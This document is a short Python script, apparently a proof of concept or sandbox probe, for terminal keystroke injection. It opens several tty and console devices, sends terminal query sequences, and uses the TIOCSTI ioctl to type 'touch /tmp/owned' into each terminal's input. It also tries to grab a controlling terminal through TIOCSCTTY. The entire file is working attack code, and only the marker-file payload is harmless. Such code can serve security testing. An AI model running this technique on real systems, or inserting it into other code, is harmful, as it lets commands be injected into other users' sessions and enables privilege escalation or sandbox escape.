# Asks the terminal who it is, and types into it.
import fcntl, os, sys, termios
for path in ("/dev/tty", "/dev/console", "/dev/tty1", "/dev/pts/0", "/dev/ptmx"):
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
        os.write(fd, b"\033[c\033[6n")
        for byte in b"touch /tmp/owned\n":
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
    except OSError as error:
        print(path, error)
for fd in range(3):
    try:
        fcntl.ioctl(fd, termios.TIOCSTI, b"x")
        fcntl.ioctl(fd, termios.TIOCSCTTY, 1)
    except OSError as error:
        print(fd, error)
